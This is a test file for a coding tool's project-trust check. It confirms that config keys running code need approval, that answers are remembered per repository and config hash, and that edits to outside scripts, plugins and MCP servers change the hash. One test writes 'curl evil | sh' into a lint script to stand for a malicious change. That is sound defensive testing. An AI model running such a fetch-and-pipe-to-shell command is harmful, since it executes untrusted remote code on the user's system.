import { expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseConfigText } from "./config-file.ts";
import { ConfigError } from "../errors.ts";
import { KERNEL_TABLE, optionTable } from "./options.ts";
import { decideTrust, projectConfigHash, rememberTrust, rememberedTrust } from "./trust.ts";

const configDir = () => join(realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-"))), "coder");
const layers = (text: string) => [parseConfigText(text, "/repo/.coder.json", "project", undefined, KERNEL_TABLE)];

function input(dir: string, text: string, over: Partial<Parameters<typeof decideTrust>[0]> = {}) {
  const warnings: string[] = [];
  const asked: string[] = [];
  return {
    warnings,
    asked,
    value: {
      root: "/repo",
      configDir: dir,
      layers: layers(text),
      keys: ["lintCmd"],
      table: KERNEL_TABLE,
      trustFlag: false,
      canAsk: false,
      ask: async (q: string) => (asked.push(q), true),
      warn: (m: string) => warnings.push(m),
      ...over,
    },
  };
}

test("no keys or --trust: trusted without asking; --trust is remembered for this config", async () => {
  const dir = configDir();
  expect(await decideTrust({ ...input(dir, "{}").value, keys: [] })).toBe(true);
  expect(await decideTrust(input(dir, '{ "lintCmd": "x" }', { trustFlag: true }).value)).toBe(true);
  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo", KERNEL_TABLE))).toBe("trusted");
  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo", KERNEL_TABLE))).toBe("unknown");
});

test("the trust hash covers plugin files and lint/test scripts outside the repository", () => {
  const base = realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-files-")));
  const root = join(base, "repo");
  mkdirSync(root);
  const script = join(base, "lint.sh");
  const plugin = join(root, "plugin.ts");
  writeFileSync(script, "echo ok\n");
  writeFileSync(plugin, "export default {}\n");
  writeFileSync(join(root, "inside.sh"), "echo in\n");
  const text = JSON.stringify({ lintCmd: `bash ${script}`, testCmd: "./inside.sh", plugins: ["./plugin.ts"] });
  const layer = () => [parseConfigText(text, join(root, ".coder.json"), "project", undefined, KERNEL_TABLE)];
  const first = projectConfigHash(layer(), root, KERNEL_TABLE);
  expect(projectConfigHash(layer(), root, KERNEL_TABLE)).toBe(first);
  writeFileSync(join(root, "inside.sh"), "echo changed\n");
  expect(projectConfigHash(layer(), root, KERNEL_TABLE)).toBe(first); // inside the repository: its diff shows
  writeFileSync(script, "curl evil | sh\n");
  const second = projectConfigHash(layer(), root, KERNEL_TABLE);
  expect(second).not.toBe(first);
  writeFileSync(plugin, "export default { changed: true }\n");
  expect(projectConfigHash(layer(), root, KERNEL_TABLE)).not.toBe(second);
});

test("the trust hash covers the scripts outside the repository that a plugin option's value runs (MCP servers)", () => {
  // As plugins/mcp declares mcpServers: an object whose entries name commands.
  const table = optionTable([
    {
      plugin: "mcp",
      options: [{ key: "mcpServers", type: "object", configOnly: true, merge: "by-key", needsTrust: "runs code", help: "servers", runs: (v) => Object.values(v as Record<string, { command: string; args: string[] }>).map((e) => [e.command, ...e.args].join(" ")) }],
    },
  ]);
  const base = realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-mcp-")));
  const root = join(base, "repo");
  mkdirSync(root);
  const server = join(base, "server.js");
  writeFileSync(server, "// a server\n");
  const text = JSON.stringify({ mcpServers: { docs: { command: "node", args: [server, "--stdio"] } } });
  const layer = () => [parseConfigText(text, join(root, ".coder.json"), "project", undefined, table)];
  const first = projectConfigHash(layer(), root, table);
  expect(projectConfigHash(layer(), root, table)).toBe(first);
  writeFileSync(server, "// changed\n");
  expect(projectConfigHash(layer(), root, table)).not.toBe(first);
});

test("a remembered refusal leaves the keys out, also without a terminal", async () => {
  const dir = configDir();
  rememberTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo", KERNEL_TABLE), false);
  const i = input(dir, '{ "lintCmd": "x" }');
  expect(await decideTrust(i.value)).toBe(false);
  expect(i.warnings[0]).toContain("ignoring lintCmd");
});

test("non-interactive without --trust: a ConfigError naming the keys", async () => {
  const i = input(configDir(), '{ "lintCmd": "x" }');
  await expect(decideTrust(i.value)).rejects.toThrow(ConfigError);
  await expect(decideTrust(i.value)).rejects.toThrow("lintCmd");
});

test("interactive: asks once, remembers per repository and config hash", async () => {
  const dir = configDir();
  const first = input(dir, '{ "lintCmd": "x" }', { canAsk: true });
  expect(await decideTrust(first.value)).toBe(true);
  expect(first.asked).toHaveLength(1);
  const again = input(dir, '{ "lintCmd": "x" }', { canAsk: true });
  expect(await decideTrust(again.value)).toBe(true);
  expect(again.asked).toHaveLength(0);
  const edited = input(dir, '{ "lintCmd": "y" }', { canAsk: true, ask: async () => false });
  expect(await decideTrust(edited.value)).toBe(false);
  expect(edited.warnings[0]).toContain("ignoring lintCmd");
  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo", KERNEL_TABLE))).toBe("refused");
  expect(rememberedTrust(dir, "/other", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo", KERNEL_TABLE))).toBe("unknown");
});

test("the store holds answers per repository", () => {
  const dir = configDir();
  rememberTrust(dir, "/a", "h1", true);
  rememberTrust(dir, "/b", "h2", false);
  expect(rememberedTrust(dir, "/a", "h1")).toBe("trusted");
  expect(rememberedTrust(dir, "/b", "h2")).toBe("refused");
  expect(rememberedTrust(dir, "/a", "h2")).toBe("unknown");
});
